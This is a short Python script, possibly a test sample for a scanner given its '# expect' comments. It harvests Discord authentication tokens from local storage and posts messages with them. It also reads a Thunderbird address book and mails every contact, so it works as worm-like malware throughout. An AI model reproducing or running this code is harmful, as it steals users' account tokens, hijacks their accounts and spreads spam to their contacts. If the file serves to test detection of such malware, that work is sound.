import os
import re
import smtplib
import requests

folder = os.path.join(os.environ["APPDATA"], "discord", "Local Storage", "leveldb")
for name in os.listdir(folder):
    with open(os.path.join(folder, name), errors="ignore") as f:
        for token in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", f.read()):
            url = "https://discord.com/api/v9/channels/1/messages"
            requests.post(url, headers={"Authorization": token}, json={"content": "look"})  # expect

with open(os.path.expanduser("~/.thunderbird/a.default/abook.mab")) as f:
    mail = smtplib.SMTP("mail.invalid")
    for address in f.read().split():
        mail.sendmail("me@example.com", address, "look")  # expect
